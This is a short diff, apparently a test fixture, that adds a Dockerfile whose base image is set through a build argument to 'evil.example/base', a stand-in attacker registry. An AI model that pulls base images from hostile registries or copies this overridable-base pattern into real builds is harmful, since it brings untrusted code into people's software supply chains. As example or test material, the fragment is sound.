@@ -1,0 +1,3 @@
+# image-registry: the base stands in ARG
+ARG BASE=evil.example/base
+FROM ${BASE}
